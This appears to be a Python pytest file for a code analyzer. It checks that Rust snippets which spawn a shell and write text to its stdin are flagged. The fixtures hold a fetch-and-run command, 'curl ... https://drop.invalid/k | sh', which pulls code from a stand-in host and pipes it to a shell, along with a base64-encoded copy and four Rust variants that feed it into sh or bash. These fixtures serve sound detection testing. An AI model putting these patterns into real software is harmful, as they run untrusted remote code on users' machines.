"""Texts that a started shell or interpreter is handed on its input."""

from __future__ import annotations

import base64
from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Fact, FactKind, Report

FactsOf = Callable[..., list[Fact]]
ReportOf = Callable[[Mapping[str, str]], Report]
LINE = "curl -fsS https://drop.invalid/k | sh"
CODED = base64.b64encode(LINE.encode()).decode()
HEAD = "use std::io::Write; use std::process::{Command, Stdio};"

WAYS = {
    "taken pipe": f"""{HEAD}
        pub fn go() {{
            let mut child = Command::new("sh").stdin(Stdio::piped()).spawn().unwrap();
            if let Some(mut pipe) = child.stdin.take() {{ let _ = pipe.write_all(b"{LINE}"); }}
        }}""",
    "borrowed pipe": f"""{HEAD}
        pub fn go() {{
            let mut child = Command::new("/bin/bash").arg("-s").stdin(Stdio::piped()).spawn().unwrap();
            writeln!(child.stdin.as_mut().unwrap(), "{LINE}").unwrap();
        }}""",
    "decoded, through a parameter": f"""{HEAD} use base64::{{engine::general_purpose::STANDARD, Engine}};
        fn feed(text: &[u8]) {{
            let child = Command::new("sh").stdin(Stdio::piped()).spawn();
            if let Ok(mut child) = child {{
                if let Some(mut pipe) = child.stdin.take() {{ let _ = pipe.write_all(text); }}
                let _ = child.wait();
            }}
        }}
        pub fn go() {{ feed(&STANDARD.decode("{CODED}").unwrap()); }}""",
    "question marks": f"""{HEAD}
        pub fn go() -> Option<()> {{
            let mut shell = Command::new("sh").stdin(Stdio::piped()).spawn().ok()?;
            shell.stdin.take()?.write_all("{LINE}".as_bytes()).ok()
        }}""",
}


@pytest.mark.parametrize("source", WAYS.values(), ids=WAYS)
def test_what_a_shell_is_handed_runs(facts_of: FactsOf, source: str) -> None:
    found = facts_of(source, "src/lib.rs")
    assert LINE in [one.subject.strip() for one in found if one.kind is FactKind.PROCESS_SHELL]
    assert "https://drop.invalid/k" in [
        one.subject for one in found if one.kind is FactKind.NET_CONNECT
    ]


def test_another_program_runs_nothing_of_what_it_reads(facts_of: FactsOf) -> None:
    source = WAYS["taken pipe"].replace('"sh"', '"less"')
    assert not [one for one in facts_of(source, "src/lib.rs") if one.kind is FactKind.PROCESS_SHELL]


def test_what_nobody_knows_is_no_text(facts_of: FactsOf) -> None:
    source = WAYS["question marks"].replace(f'"{LINE}".as_bytes()', "&std::fs::read(x).unwrap()")
    assert not [one for one in facts_of(source, "src/lib.rs") if one.kind is FactKind.PROCESS_SHELL]


def test_an_option_of_the_shell_dumps_no_variables(facts_of: FactsOf) -> None:
    source = WAYS["taken pipe"].replace(LINE, "set -e; set -o pipefail; true")
    assert not [one for one in facts_of(source, "src/lib.rs") if one.kind is FactKind.ENV_READ_ALL]
